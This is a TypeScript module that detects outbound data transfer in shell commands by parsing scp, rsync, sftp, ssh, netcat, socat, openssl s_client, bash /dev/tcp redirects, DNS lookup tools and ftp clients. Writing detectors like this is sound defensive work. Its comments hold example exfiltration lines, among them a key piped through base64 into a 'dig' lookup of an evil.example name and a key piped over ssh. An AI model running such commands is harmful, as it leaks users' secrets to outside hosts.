// Copies to another machine and raw sockets: scp/rsync/sftp with a remote destination, and
// nc/ncat/socat/telnet/openssl s_client (or bash's /dev/tcp) given something to send. A copy from a
// remote host to here, a dry run, or a socket with nothing on its input sends nothing.
import { allLoopback, remoteSpecHost, stripPort } from './net-hosts.js';
import { optionModel, parseOptions } from './option-model.js';
import { PROGRAM_OPTIONS } from './program-options.js';
import type { ShellEgress, ShellSegment } from './types.js';

const SCP = optionModel('3 4 6 A B C O p q R r T v D= c= F= i= J= l= o= P= S= X=');
const SFTP = optionModel('4 6 A a C f N p q R= r v B= b= c= D= F= i= J= l= o= P= S= s=');
const NC = optionModel(
  '4 6 b C d D F h k l|listen N n r S t U|unixsock u|udp v z I= i= M= m= O= P= p= q= s= T= V= w= X= x= ' +
    'e|exec= c|sh-exec= lua-exec= proxy= proxy-type= proxy-auth= proxy-dns= allow= allowfile= deny= ' +
    'denyfile= broker chat keep-open send-only recv-only ssl no-shutdown source= wait=',
);

/** Whether the command has something on stdin: a pipe, heredoc, here-string or `<` file (not /dev/null). */
export function hasInput(seg: ShellSegment): boolean {
  // `< /dev/null` is empty text, not input.
  if (seg.stdin_from !== undefined) return !(seg.stdin_from === 'file' && seg.stdin === '');
  return seg.redirects.some(
    (r) => (r.fd === undefined || r.fd === 0) && /^<(<|<<|<-|>|&)?$/.test(r.op) && r.target !== '/dev/null',
  );
}

/** scp and sftp-like copies: the last operand is the destination. */
export function scpEgress(seg: ShellSegment): ShellEgress | undefined {
  const parsed = parseOptions(SCP, seg.args);
  if (parsed.positionals.length < 2) return undefined;
  return copyTo(
    parsed.positionals[parsed.positionals.length - 1] as string,
    true,
    sshRerouted(parsed.canonical),
  );
}

/**
 * ssh options that can send a connection to a host other than the one named (`-o HostName=…`,
 * `-o ProxyCommand=…`, a config file `-F`, a jump host `-J`, another ssh program `-S`).
 */
function sshRerouted(canonical: readonly string[]): boolean {
  return canonical.some((o) => /^-(o|F|J|S)(=|$)/.test(o));
}

export function rsyncEgress(seg: ShellSegment): ShellEgress | undefined {
  const model = PROGRAM_OPTIONS.rsync;
  if (!model) return undefined;
  const parsed = seg.canonical
    ? { canonical: seg.canonical, positionals: seg.positionals }
    : parseOptions(model, seg.args);
  if (parsed.positionals.length < 2) return undefined;
  const dry = parsed.canonical.includes('--dry-run') || parsed.canonical.includes('--list-only');
  // -e/--rsh and RSYNC_RSH choose the transport (`ssh -o HostName=…`), RSYNC_CONNECT_PROG the connection.
  const rerouted =
    parsed.canonical.some((o) => o.startsWith('--rsh')) ||
    seg.assignments.some((a) => /^RSYNC_(RSH|CONNECT_PROG|PROXY)=/.test(a));
  return copyTo(parsed.positionals[parsed.positionals.length - 1] as string, !dry, rerouted);
}

/** sftp: a batch file or commands on stdin may put files; interactive use with no input sends nothing. */
export function sftpEgress(seg: ShellSegment): ShellEgress | undefined {
  const parsed = parseOptions(SFTP, seg.args);
  const target = parsed.positionals[0];
  if (target === undefined) return undefined;
  const host = remoteSpecHost(target) ?? stripPort(target.slice(target.lastIndexOf('@') + 1));
  const batch = parsed.canonical.find((o) => o.startsWith('-b='))?.slice(3);
  const fromStdin = batch === '-' || (batch === undefined && hasInput(seg));
  const text = seg.stdin;
  const puts = (t: string) =>
    /(^|\n|;)\s*(-?\s*)(put|mput|reput|rename|rm|rmdir|mkdir|chmod|chown|ln|symlink)\b/i.test(t);
  const data = (batch !== undefined && batch !== '-') || (fromStdin && (text === undefined || puts(text)));
  const hosts = [host];
  return { kind: 'copy', data, hosts, remote: sshRerouted(parsed.canonical) || !allLoopback(hosts) };
}

const SSH = optionModel(
  '4 6 A a C f G g K k M N n q s T t V v X x Y y B= b= c= D= E= e= F= I= i= J= L= l= m= O= o= P= p= Q= R= S= W= w=',
  { permute: false },
);

/** ssh with something on its input: the input goes to the remote command (`cat key | ssh host 'cat > k'`). */
export function sshEgress(seg: ShellSegment): ShellEgress | undefined {
  if (!hasInput(seg)) return undefined;
  const parsed = parseOptions(SSH, seg.args);
  const target = parsed.positionals[0];
  if (target === undefined) return undefined;
  const host = /^ssh:\/\//i.test(target)
    ? (remoteSpecHost(target) ?? '')
    : stripPort(target.slice(target.lastIndexOf('@') + 1));
  const hosts = [host];
  return { kind: 'copy', data: true, hosts, remote: sshRerouted(parsed.canonical) || !allLoopback(hosts) };
}

function copyTo(destination: string, sends: boolean, rerouted: boolean): ShellEgress | undefined {
  const host = remoteSpecHost(destination);
  if (host === undefined) return undefined;
  const hosts = [host];
  return { kind: 'copy', data: sends, hosts, remote: rerouted || !allLoopback(hosts) };
}

/** nc, ncat, netcat, telnet: `HOST PORT`; listening serves its input to whoever connects. */
export function ncEgress(seg: ShellSegment): ShellEgress | undefined {
  const parsed = parseOptions(NC, seg.args);
  const c = parsed.canonical;
  if (c.includes('-z') || c.includes('--unixsock') || c.includes('-U')) return undefined;
  const listen = c.includes('--listen');
  // -e/-c hand a program's input and output to the peer.
  const exec = c.some((o) => /^--(exec|sh-exec|lua-exec)(=|$)/.test(o));
  const host = parsed.positionals[0];
  const hosts = listen || host === undefined ? [] : [host];
  const proxy = c.some((o) => o.startsWith('--proxy') || o.startsWith('-X') || o.startsWith('-x'));
  return {
    kind: 'socket',
    data: hasInput(seg) || exec,
    hosts,
    remote: proxy || !allLoopback(hosts),
  };
}

const SOCAT_NET =
  /^(tcp[46]?|tcp[46]?-connect|udp[46]?|udp[46]?-connect|udp[46]?-sendto|udp[46]?-datagram|sctp[46]?(-connect)?|dccp[46]?(-connect)?|openssl|ssl|openssl-connect|socks4a?|socks5(-connect)?|proxy|proxy-connect|ip[46]?-sendto|ip[46]?-datagram|vsock-connect)$/;
const SOCAT_LISTEN = /-(listen|recvfrom|recv)$|^(tcp|udp|sctp|dccp|openssl|ssl)[46]?-l$/;
const SOCAT_STDIO = /^(-|stdio|stdin|stdout|-,-)$/;

/** socat ADDRESS ADDRESS: a network address with anything but an idle terminal on the other side. */
export function socatEgress(seg: ShellSegment): ShellEgress | undefined {
  // The addresses are the last two words (options such as -lf take values socat's table lists).
  const addresses = seg.positionals.slice(-2);
  if (addresses.length < 2) return undefined;
  const hosts: string[] = [];
  let network = false;
  let listening = false;
  let other = false;
  for (const address of addresses) {
    const [type = '', ...rest] = address.split(/[:,]/);
    const t = type.toLowerCase();
    if (SOCAT_NET.test(t)) {
      network = true;
      // PROXY:proxyhost:host:port and SOCKS:sockshost:host:port connect to the first host.
      hosts.push(rest[0] ?? '');
    } else if (SOCAT_LISTEN.test(t)) {
      network = true;
      listening = true;
    } else if (!SOCAT_STDIO.test(t)) other = true;
  }
  if (!network) return undefined;
  return {
    kind: 'socket',
    data: other || hasInput(seg),
    hosts,
    remote: listening || !allLoopback(hosts),
  };
}

/** openssl s_client -connect HOST:PORT with input. */
export function opensslEgress(seg: ShellSegment): ShellEgress | undefined {
  if (seg.positionals[0] !== 's_client') return undefined;
  const at = seg.args.findIndex((a) => a === '-connect' || a === '--connect');
  const target = at < 0 ? undefined : seg.args[at + 1];
  const hosts = target === undefined ? [] : [stripPort(target)];
  return { kind: 'socket', data: hasInput(seg), hosts, remote: !allLoopback(hosts) };
}

/** bash's `> /dev/tcp/HOST/PORT` (and /dev/udp): the shell itself opens the socket. */
export function devTcpEgress(seg: ShellSegment): ShellEgress | undefined {
  for (const r of seg.redirects) {
    if (!r.target.startsWith('/dev/')) continue;
    const m = /^\/dev\/(tcp|udp)\/([^/]*)\//.exec(r.target);
    if (!m || r.op.startsWith('<<')) continue;
    const hosts = [m[2] as string];
    // Reading a socket (`< /dev/tcp/…`) connects but sends nothing of ours.
    return { kind: 'socket', data: r.op !== '<', hosts, remote: !allLoopback(hosts) };
  }
  return undefined;
}

/**
 * DNS and ICMP tools (dig, nslookup, host, ping, …): the names they look up leave the machine, so a
 * name built from a command's output (`dig $(cat key | base64).evil.example`) carries that output out.
 */
export function lookupEgress(seg: ShellSegment): ShellEgress | undefined {
  // Names read from a file (`dig -f FILE`) or, for nslookup, from a file or pipe on stdin carry
  // that file out too; a resolver on the loopback forwards what it cannot answer.
  const batch =
    seg.program === 'dig' &&
    seg.args.some((a, k) => /^-f./.test(a) || (a === '-f' && seg.args[k + 1] !== '/dev/null'));
  const fromStdin =
    seg.program === 'nslookup' &&
    (seg.stdin_from === 'file' || seg.stdin_from === 'pipe' || seg.stdin_from === 'pipe-dynamic');
  if (!batch && !fromStdin && !seg.args.some((a) => /\$\(|`/.test(a))) return undefined;
  return { kind: 'socket', data: true, hosts: [], remote: true };
}

/** Options of busybox's ftpput and tftp that take a value (the host is the first operand). */
const OPERAND_VALUES: Readonly<Record<string, ReadonlySet<string>>> = {
  ftpput: new Set(['-u', '--username', '-p', '--password', '-P', '--port']),
  tftp: new Set(['-l', '--local', '-r', '--remote', '-b', '--blocksize']),
};

/** The operands of `args`: options and the values of `values` left out. */
function operandsOf(args: readonly string[], values: ReadonlySet<string>): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const arg = args[i] as string;
    if (arg.startsWith('-') && arg.length > 1) {
      if (values.has(arg)) i++;
    } else out.push(arg);
  }
  return out;
}

/** Commands of ftp-like clients that send a file to the server. */
const SENDS = /(^|\n|;|&&)\s*(put|mput|reput|send|append|mirror\s+(-\w+\s+)*-R|mirror\s+--reverse)\b/i;

/**
 * ftp, lftp, tftp, smbclient, ncftpput: commands from stdin or `-c`/`-e` that send files
 * (`put`, `mput`, `send`, lftp's `mirror -R`); a pipe whose text is not known may hold them.
 * ncftpput always sends.
 */
export function ftpEgress(seg: ShellSegment): ShellEgress | undefined {
  // busybox's ftpput HOST [REMOTE] LOCAL, and tftp -p (put) -l FILE HOST, send a file as given.
  const puts =
    seg.program === 'ftpput' ||
    (seg.program === 'tftp' && seg.flags.some((f) => f === '-p' || f === '--put'));
  const values = OPERAND_VALUES[seg.program];
  const host =
    (values ? operandsOf(seg.args, values) : seg.positionals).find((p) => !p.startsWith('-')) ?? '';
  const hosts =
    host === ''
      ? []
      : [
          stripPort(
            host
              .replace(/^\/\/|^[a-z]+:\/\//i, '')
              .split(/[/@]/)
              .pop() ?? '',
          ),
        ];
  if (seg.program === 'ncftpput') return { kind: 'copy', data: true, hosts, remote: true };
  if (puts) return { kind: 'copy', data: true, hosts, remote: hosts.length === 0 || !allLoopback(hosts) };
  const at = seg.args.findIndex((a) => a === '-c' || a === '-e' || a === '--command');
  const inline = at >= 0 ? seg.args[at + 1] : undefined;
  const text = inline ?? (hasInput(seg) ? seg.stdin : '');
  const data = text === undefined || SENDS.test(text);
  return data
    ? { kind: 'copy', data: true, hosts, remote: !allLoopback(hosts) || hosts.length === 0 }
    : undefined;
}
